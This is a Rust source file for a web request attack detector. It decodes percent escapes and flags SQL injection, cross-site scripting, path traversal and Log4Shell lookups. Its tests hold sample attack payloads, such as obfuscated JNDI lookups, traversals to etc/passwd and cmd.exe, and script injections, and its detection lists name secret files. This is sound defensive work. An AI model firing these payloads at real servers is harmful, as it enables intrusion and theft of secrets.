//! Is this text of a request an attack? Decoding with a bound, then matchers.
//!
//! Path: request text → [`is_plain`] (nine of ten go no further) → up to three rounds of percent
//! decoding → libinjection for SQL and markup (Galbreath 2012), and rules of our own for paths that
//! climb and for look-ups of Log4j. Nothing here knows who sent it or what was answered.
//!
//! Estimate: plain texts cost about a nanosecond a byte; a text that libinjection must see costs
//! a microsecond or two, so a million requests of which a tenth are odd cost 0.3 s on one core.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

/// Bytes of one text that are looked at: as much as an `Untrusted` keeps.
pub const TEXT_BYTES_MAX: usize = 4_096;

/// Rounds of percent decoding: attacks hide behind two, honest proxies add one.
const DECODE_ROUNDS_MAX: usize = 3;

/// Parameters of one query that are looked at.
const PARAMETERS_MAX: usize = 256;

/// Look-ups of Log4j that are resolved in one text.
const LOOKUPS_MAX: usize = 64;

/// Where in a request a text stood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Place {
    /// The path.
    Path,
    /// The query or a form: names and values.
    Query,
    /// A header whose text is free: referrer, forwarded-for.
    Header,
    /// The user agent.
    Agent,
}

/// What a text is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
#[expect(clippy::struct_excessive_bools, reason = "one text can be several of them at once")]
pub struct Verdict {
    /// SQL that breaks out of where a value belongs.
    pub sqli: bool,
    /// Markup that would run.
    pub xss: bool,
    /// A path that climbs, or names what only an intruder asks for.
    pub traversal: bool,
    /// A Log4j look-up (CVE-2021-44228).
    pub log4shell: bool,
    /// A traversal that names a well-known secret file: an answer to it is an answer to look at.
    pub names_secret: bool,
}

impl Verdict {
    /// Whether it is any attack at all.
    pub const fn is_attack(self) -> bool {
        self.sqli || self.xss || self.traversal || self.log4shell
    }

    const fn or(self, other: Self) -> Self {
        Self {
            sqli: self.sqli || other.sqli,
            xss: self.xss || other.xss,
            traversal: self.traversal || other.traversal,
            log4shell: self.log4shell || other.log4shell,
            names_secret: self.names_secret || other.names_secret,
        }
    }
}

/// Bytes that alone can be no attack: letters, digits, and what separates honest names.
const PLAIN: [bool; 256] = {
    let mut plain = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        plain[byte] = (byte as u8).is_ascii_alphanumeric();
        byte += 1;
    }
    let marks = b"_.-/,:&=";
    let mut at = 0;
    while at < marks.len() {
        plain[marks[at] as usize] = true;
        at += 1;
    }
    plain
};

/// Whether a path or query holds nothing that any matcher could see: no quote, space, bracket,
/// escape, and neither `..`, `--` nor `://`.
pub fn is_plain(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.iter().all(|&byte| PLAIN[usize::from(byte)])
        && !bytes.windows(2).any(|pair| matches!(pair, b".." | b"--" | b":/"))
        && !names_secret(bytes)
}

/// What a text of a request is. Bytes beyond [`TEXT_BYTES_MAX`] are not looked at.
///
/// ```
/// use infralock::threat::strings::{Place, judge};
/// assert!(judge("id=1%27%20or%20%271%27=%271", Place::Query).sqli);
/// assert!(judge("/static/..%2f..%2f..%2fetc/passwd", Place::Path).traversal);
/// assert!(!judge("q=o'reilly+and+sons", Place::Query).is_attack());
/// ```
pub fn judge(text: &str, place: Place) -> Verdict {
    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
    match place {
        Place::Path => judge_path(text),
        Place::Query => judge_query(text),
        Place::Header | Place::Agent => judge_header(text),
    }
}

fn judge_path(text: &str) -> Verdict {
    if is_plain(text) {
        return Verdict::default();
    }
    let decoded = decode(text.as_bytes(), Plus::IsPlus);
    let traversal = traversal(&decoded);
    // The separators of a path are no part of the values in it.
    let mut segments = decoded.text.split(|&byte| byte == b'/').take(PARAMETERS_MAX);
    Verdict {
        sqli: segments.any(is_sqli),
        xss: is_xss(&decoded.text),
        log4shell: is_lookup(&decoded.text),
        ..traversal
    }
}

fn judge_query(text: &str) -> Verdict {
    if is_plain(text) {
        return Verdict::default();
    }
    let mut all = Verdict::default();
    for parameter in text.split('&').take(PARAMETERS_MAX) {
        let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
        // A name that is no name: the `=` may have been part of the injection.
        let whole = if is_plain(name) { "" } else { parameter };
        for part in [whole, value] {
            if !part.is_empty() && !is_plain(part) {
                all = all.or(judge_value(part));
            }
        }
    }
    all
}

fn judge_value(text: &str) -> Verdict {
    let decoded = decode(text.as_bytes(), Plus::IsSpace);
    let sqli = is_sqli(&decoded.text)
        // One round less: `%2527` is a quote to a server that decodes twice, and text to others.
        || decoded.first.as_ref().is_some_and(|first| is_sqli(first));
    Verdict {
        sqli,
        xss: is_xss(&decoded.text),
        log4shell: is_lookup(&decoded.text),
        ..traversal(&decoded)
    }
}

/// User agents are full of brackets and semicolons, referrers of other sites' queries: SQL is
/// looked for only behind a quote, markup only behind `<`.
fn judge_header(text: &str) -> Verdict {
    if memchr::memchr3(b'$', b'<', b'\'', text.as_bytes()).is_none() && !text.contains("%24") {
        return Verdict::default();
    }
    let decoded = decode(text.as_bytes(), Plus::IsPlus);
    Verdict {
        sqli: text.contains('\'') && is_sqli(&decoded.text),
        xss: text.contains('<') && is_xss(&decoded.text),
        log4shell: is_lookup(&decoded.text),
        ..Verdict::default()
    }
}

/// What `+` means: forms write a space so (WHATWG URL, application/x-www-form-urlencoded).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Plus {
    IsPlus,
    IsSpace,
}

/// A text after decoding.
struct Decoded<'t> {
    text: Cow<'t, [u8]>,
    /// After the first of several rounds.
    first: Option<Vec<u8>>,
    /// Whether a dot, slash or backslash was hidden: nobody honest does that.
    hid_path: bool,
}

/// Decodes percent escapes (RFC 3986 §2.1) and `%uXXXX` until nothing changes, at most
/// [`DECODE_ROUNDS_MAX`] times; `+` is a space in forms.
fn decode(text: &[u8], plus: Plus) -> Decoded<'_> {
    let mut decoded = Decoded { text: Cow::Borrowed(text), first: None, hid_path: false };
    for round in 0..DECODE_ROUNDS_MAX {
        let plus = if round == 0 { plus } else { Plus::IsPlus };
        let has_plus = plus == Plus::IsSpace && memchr::memchr(b'+', &decoded.text).is_some();
        if !has_plus && memchr::memchr(b'%', &decoded.text).is_none() {
            break;
        }
        let (next, hid_path) = decode_once(&decoded.text, plus);
        decoded.hid_path |= hid_path;
        if next == *decoded.text {
            break;
        }
        if round == 1 {
            decoded.first = Some(decoded.text.into_owned());
        }
        decoded.text = Cow::Owned(next);
    }
    decoded
}

fn decode_once(text: &[u8], plus: Plus) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(text.len());
    let (mut rest, mut hid_path) = (text, false);
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        match byte {
            b'+' if plus == Plus::IsSpace => out.push(b' '),
            b'%' => match escape(after) {
                Some((value, used)) => {
                    hid_path |= matches!(value, '.' | '/' | '\\');
                    match u8::try_from(u32::from(value)) {
                        Ok(byte) => out.push(byte),
                        Err(_) => {
                            out.extend_from_slice(value.encode_utf8(&mut [0; 4]).as_bytes());
                        }
                    }
                    rest = after.get(used..).unwrap_or_default();
                }
                None => out.push(byte),
            },
            byte => out.push(byte),
        }
    }
    (out, hid_path)
}

/// The value of what follows a `%`, and how many bytes it took. Overlong forms of `.`, `/` and `\`
/// (two bytes where one does: IIS 4, CVE-2000-0884; Tomcat, CVE-2008-2938) are what they stand for.
fn escape(after: &[u8]) -> Option<(char, usize)> {
    if let Some((b'u' | b'U', digits)) = after.split_first() {
        let value = hex(digits.get(..4)?)?;
        // Full-width forms of ASCII (U+FF01 to U+FF5E) are folded by some servers.
        let folded = if (0xff01..=0xff5e).contains(&value) { value - 0xfee0 } else { value };
        return char::from_u32(folded).map(|value| (value, 5));
    }
    let value = hex(after.get(..2)?)?;
    let next = |at: usize| match after.get(at..at + 3) {
        Some([b'%', digits @ ..]) => hex(digits),
        _ => None,
    };
    match (value, next(2), next(5)) {
        (0xc0, Some(0xae | 0x2e), _) => Some(('.', 5)),
        (0xc0, Some(0xaf | 0x2f), _) => Some(('/', 5)),
        (0xc1, Some(0x9c | 0x1c), _) => Some(('\\', 5)),
        (0xe0, Some(0x80), Some(0xae)) => Some(('.', 8)),
        (0xe0, Some(0x80), Some(0xaf)) => Some(('/', 8)),
        _ => char::from_u32(value).map(|value| (value, 2)),
    }
}

fn hex(digits: &[u8]) -> Option<u32> {
    digits.iter().try_fold(0, |value, &digit| Some(value * 16 + char::from(digit).to_digit(16)?))
}

/// libinjection's opinion. A text without two tokens cannot be an injection, and identifiers that
/// end in `--` (Base64 of URLs, RFC 4648 §5) are none.
fn is_sqli(text: &[u8]) -> bool {
    let has_room = text.len() >= 3;
    let marks = |byte: &u8| !byte.is_ascii_alphanumeric() && !b"_.-/,:".contains(byte);
    has_room && text.iter().any(marks) && libinjectionrs::detect_sqli(text).is_injection()
}

/// Words and signs that a person who searches for `"like" stamp` does not write.
static SQL_SIGNS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let signs = [
        "union",
        "select",
        "insert",
        "update",
        "delete",
        "drop ",
        "--",
        "/*",
        "#",
        "sleep(",
        "benchmark(",
        "waitfor",
        "pg_sleep",
        "@@",
        "0x",
        "concat",
        "char(",
        "chr(",
        "cast(",
        "information_schema",
        "order by",
        "group by",
        "having",
        "xp_",
        "exec",
        "' or",
        "\" or",
        ") or",
        "' and",
        "\" and",
        ") and",
        "or 1",
        "and 1",
        "or '",
        "and '",
        "or \"",
        "'='",
        "||",
        "'||",
        "&&",
        "rlike",
        "extractvalue",
        "updatexml",
        "';",
        "\";",
    ];
    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
    AhoCorasick::builder().ascii_case_insensitive(true).build(signs).expect("constant words build")
});

/// Whether a text that libinjection calls an injection also reads like one: it alone, without a
/// second of its kind, is then enough.
pub fn reads_like_sql(text: &str) -> bool {
    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
    SQL_SIGNS.is_match(decode(text.as_bytes(), Plus::IsSpace).text.as_ref())
}

/// libinjection's opinion. Markup needs a tag, an attribute, or a scheme that runs.
fn is_xss(text: &[u8]) -> bool {
    memchr::memchr3(b'<', b'=', b'`', text).is_some()
        && libinjectionrs::detect_xss(text).is_injection()
}

/// Files and schemes that only an intruder asks for, in lower case with `/`.
static SECRETS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let names = [
        "etc/passwd",
        "etc/shadow",
        "etc/group",
        "etc/hosts",
        "etc/issue",
        "boot.ini",
        "win.ini",
        "windows/system32",
        "winnt/system32",
        "windows/repair",
        "web-inf/web.xml",
        "proc/self/",
        "proc/version",
        ".ssh/id_",
        "php://",
        "file:///",
        "expect://",
        "phar://",
        "inetpub/wwwroot",
        "var/log/apache",
        "var/log/nginx",
    ];
    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
    AhoCorasick::builder().ascii_case_insensitive(true).build(names).expect("constant words build")
});

fn names_secret(text: &[u8]) -> bool {
    // All of them hold one of these, and most honest texts neither.
    memchr::memmem::find(text, b"://").is_some() || SECRETS.is_match(text)
}

/// A path that climbs above where it began: two steps and more, or one that was hidden or leads to
/// a well-known secret; or such a secret by its name alone. `....//` is `../` to a filter that
/// removes `../` once.
fn traversal(decoded: &Decoded<'_>) -> Verdict {
    let text = &decoded.text;
    let slashes: Vec<u8>;
    let text: &[u8] = if memchr::memchr(b'\\', text).is_some() {
        slashes = text.iter().map(|&byte| if byte == b'\\' { b'/' } else { byte }).collect();
        &slashes
    } else {
        text
    };
    let names_secret = SECRETS.is_match(text);
    let (mut depth, mut lowest, mut steps) = (0_i64, 0_i64, 0_i64);
    // A path parameter behind a step up: Java servers and the proxies before them read it
    // differently (CVE-2020-5902), nobody else writes it.
    let mut is_split = false;
    for segment in text.split(|&byte| byte == b'/') {
        is_split |= segment == b"..;";
        match segment {
            b".." | b"..;" | b"...." | b"..." => {
                depth -= 1;
                steps += 1;
            }
            b"" | b"." => {}
            _ => depth += 1,
        }
        lowest = lowest.min(depth);
    }
    let climbs = lowest <= -2
        || (steps > 0 && decoded.hid_path && memchr::memmem::find(text, b"../").is_some());
    let traversal = climbs || is_split || names_secret;
    Verdict { traversal, names_secret, ..Verdict::default() }
}

/// Whether a Log4j look-up of JNDI remains once the look-ups that hide it are resolved:
/// `${${lower:j}ndi:…`, `${${::-j}${::-n}…` (Apache Log4j, "Lookups"; CVE-2021-44228).
fn is_lookup(text: &[u8]) -> bool {
    if memchr::memmem::find(text, b"${").is_none() {
        return false;
    }
    let mut text = text.to_ascii_lowercase();
    for _ in 0..LOOKUPS_MAX {
        if memchr::memmem::find(&text, b"${jndi:").is_some() {
            return true;
        }
        // The innermost is the last that opens.
        let Some(open) = memchr::memmem::rfind(&text, b"${") else { return false };
        let Some(close) = memchr::memchr(b'}', text.get(open..).unwrap_or_default()) else {
            // One that does not close hides nothing; look at those before it.
            text.truncate(open);
            continue;
        };
        let inner = text.get(open + 2..open + close).unwrap_or_default();
        let value = match memchr::memmem::find(inner, b":-") {
            Some(at) => inner.get(at + 2..),
            None => inner.strip_prefix(b"lower:").or_else(|| inner.strip_prefix(b"upper:")),
        };
        let value = value.unwrap_or_default().to_vec();
        text.splice(open..=open + close, value);
    }
    false
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn names(verdict: Verdict) -> String {
        [
            (verdict.sqli, "sqli"),
            (verdict.xss, "xss"),
            (verdict.traversal, "traversal"),
            (verdict.log4shell, "log4shell"),
            (verdict.names_secret, "secret"),
        ]
        .into_iter()
        .filter_map(|(is, name)| is.then_some(name))
        .collect::<Vec<_>>()
        .join(" ")
    }

    #[test]
    fn tables() {
        for (place, text, expected) in [
            (Place::Query, "id=1", ""),
            (Place::Query, "id=1' or '1'='1", "sqli"),
            (Place::Query, "id=1%27%20or%20%271%27%3d%271", "sqli"),
            (Place::Query, "id=1%2527%2520or%2520%25271%2527=%25271", "sqli"),
            (Place::Query, "a=b&id=1+union+select+1,2,3--", "sqli"),
            (Place::Query, "1'+or+'1'='1=x", "sqli"),
            (Place::Path, "/item/1'%20or%20'1'='1", "sqli"),
            (Place::Query, "id=1611-IioXXIG1ti8rspL2vbXFy--", ""),
            (Place::Query, "q=o'reilly", ""),
            (Place::Query, "q=select+a+gift+from+our+shop", ""),
            (Place::Query, "date=2026-01-01&t=10:00", ""),
            (Place::Query, "q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            (Place::Query, "q=\"><img src=x onerror=alert(1)>", "xss"),
            (Place::Path, "/<svg/onload=alert(1)>", "xss"),
            (Place::Query, "f=../../../../etc/passwd", "traversal secret"),
            (Place::Query, "f=../img/a.png", ""),
            (Place::Path, "/a/b/../c", ""),
            (Place::Path, "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal"),
            (Place::Path, "/scripts/..%c0%af..%c0%afwinnt/system32/cmd.exe", "traversal secret"),
            (Place::Path, "/scripts/..%255c..%255cx", "traversal"),
            (Place::Path, "/..;/manager/html", "traversal"),
            (Place::Path, "/x/..;/..;/..;/manager/html", "traversal"),
            (Place::Query, "f=....//....//x", "traversal"),
            (Place::Query, "f=..\\..\\boot.ini", "traversal secret"),
            (Place::Query, "u=php://filter/read=x", "traversal secret"),
            (Place::Query, "u=https://example.com/a?b=c", ""),
            (Place::Header, "${jndi:ldap://192.0.2.1/a}", "log4shell"),
            (Place::Header, "${${lower:j}${upper:n}${::-d}i:rmi://x}", "log4shell"),
            (Place::Header, "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/a}", "log4shell"),
            (Place::Query, "x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "log4shell"),
            (Place::Header, "${jndi", ""),
            (Place::Header, "cost ${price}", ""),
            (Place::Header, "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101", ""),
            (Place::Header, "' or 1=1 -- ", "sqli"),
        ] {
            assert_eq!(names(judge(text, place)), expected, "{place:?} {text}");
        }
    }

    #[test]
    fn one_odd_search_does_not_read_like_sql() {
        for (text, expected) in [
            ("q=%22like%22+stamp", false),
            ("q=35%25+cotton+and+65%25+polyester.", false),
            ("id=1%27+or+%271%27=%271", true),
            ("id=1+union+select+1", true),
        ] {
            assert_eq!(reads_like_sql(text), expected, "{text}");
        }
    }

    #[test]
    fn plain_texts_are_no_attack_by_any_matcher() {
        for text in ["/index.html", "a=1&b=2", "/a/b/c.css", "utm_source=x&utm_medium=y.z"] {
            assert!(is_plain(text), "{text}");
        }
        for text in ["/a/../b", "a=1'", "a=1--", "u=http://x", "/etc/passwd", "a b"] {
            assert!(!is_plain(text), "{text}");
        }
    }

    proptest! {
        #[test]
        fn what_is_plain_is_called_no_attack_by_the_matchers(text in "[a-zA-Z0-9_.,:&=/-]{0,60}") {
            if is_plain(&text) {
                let decoded = decode(text.as_bytes(), Plus::IsSpace);
                prop_assert!(!traversal(&decoded).traversal);
                prop_assert!(!is_lookup(&decoded.text));
                for value in text.split(['&', '=', '/']) {
                    prop_assert!(!libinjectionrs::detect_sqli(value.as_bytes()).is_injection());
                    prop_assert!(!libinjectionrs::detect_xss(value.as_bytes()).is_injection());
                }
            }
        }

        #[test]
        fn escaped_text_decodes_to_itself(text in "[ -$&-~]{0,60}") {
            let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
            let decoded = decode(escaped.as_bytes(), Plus::IsSpace);
            prop_assert_eq!(decoded.text.as_ref(), text.as_bytes());
        }

        #[test]
        fn any_text_is_judged(text in "\\PC{0,300}") {
            for place in [Place::Path, Place::Query, Place::Header] {
                judge(&text, place);
            }
        }
    }
}
